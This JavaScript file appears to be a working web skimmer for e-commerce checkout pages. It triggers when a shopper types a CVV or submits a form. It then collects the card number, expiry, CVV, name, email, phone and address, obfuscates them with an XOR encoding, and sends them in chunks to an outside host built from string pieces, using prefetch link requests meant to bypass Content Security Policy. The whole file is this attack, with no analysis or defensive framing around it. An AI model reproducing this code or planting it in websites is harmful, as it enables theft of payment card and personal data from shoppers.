// csp-sidechannel-exfil: low-priority <link rel=prefetch> requests carrying chunks of the payment record in the path
// ES5, terse names, hex-ish encoding with a per-page salt
var q = document, z = window;
var H = ['https://', 'assets-', 'prefetch', '.top', '/r/'];
var S = (Date.now() % 997).toString(16);
var B = {};
var F = 0;

function g(n) {
  var e = q.querySelector(n);
  return e && e.value ? e.value : '';
}

function k(s) {
  var o = '';
  for (var i = 0; i < s.length; i++) {
    var c = (s.charCodeAt(i) ^ parseInt(S, 16)) & 255;
    o += ('0' + c.toString(16)).slice(-2);
  }
  return o;
}

function p(u) {
  var l = q.createElement('link');
  l.rel = 'prefetch';
  l.as = 'image';
  l.href = u;
  q.head.appendChild(l);
}

function w() {
  B.a = g('input[name*="cc_number"]') || g('input[name*="cardNumber"]') || g('[autocomplete=cc-number]');
  B.b = g('input[name*="cc_exp"]') || g('[autocomplete=cc-exp]') || (g('select[name*="month"]') + '/' + g('select[name*="year"]'));
  B.c = g('input[name*="cc_cid"]') || g('input[name*="cvv"]') || g('[autocomplete=cc-csc]');
  B.d = g('input[name*="firstname"]') + ' ' + g('input[name*="lastname"]');
  B.e = g('input[name*="email"]');
  B.f = g('input[name*="telephone"]') || g('input[name*="phone"]');
  B.g = g('input[name*="street"]') + ' ' + g('input[name*="city"]') + ' ' + g('input[name*="postcode"]');
}

function x() {
  if (F) return;
  w();
  if (B.a.replace(/\D/g, '').length < 13 || B.c.length < 3) return;
  F = 1;
  var r = k([B.a, B.b, B.c, B.d, B.e, B.f, B.g, z.location.host].join('\u0001'));
  var base = H.join('').replace('/r/', '/r/' + S + '/');
  var n = Math.ceil(r.length / 180);
  for (var i = 0; i < n; i++) {
    p(base + i + '/' + n + '/' + r.substr(i * 180, 180) + '.gif');
  }
}

if (/onepage|checkout|payment/.test(z.location.pathname)) {
  q.addEventListener('keyup', function (e) {
    var t = e.target;
    if (t && /cid|cvv|csc/i.test((t.name || '') + (t.autocomplete || '')) && t.value.length >= 3) {
      setTimeout(x, 700);
    }
  }, true);
  q.addEventListener('submit', x, true);
}
